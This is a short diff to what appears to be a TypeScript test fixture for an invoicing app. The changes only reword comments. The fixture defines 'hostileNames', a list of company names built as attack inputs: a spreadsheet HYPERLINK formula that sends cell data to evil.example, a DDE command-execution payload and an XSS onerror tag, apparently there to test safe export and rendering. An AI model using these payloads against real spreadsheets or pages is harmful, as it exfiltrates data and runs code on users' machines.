@@ -3,7 +3,7 @@ import { longlist } from './companies.ts'
 
 export const longListLength = 3000
 
-/** Names that a spreadsheet would run, or that would break a row apart. */
+/** Names that a spreadsheet would run as a formula, or that would break the layout of a row. */
 export const hostileNames = [
   `=HYPERLINK("https://evil.example?x="&A1,"Open")`,
   `+1+cmd|'/C calc'!A0`,
@@ -13,7 +13,7 @@ export const hostileNames = [
   '<img src=x onerror=alert(1)>',
 ]
 
-/** A list as long as the longest a company has; the newest invoices carry the hostile names. */
+/** A list as long as the longest of any company; the newest invoices have the hostile names. */
 export function* longList(today: Day) {
   for (let nth = 0; nth < longListLength; nth += 1)
     yield {
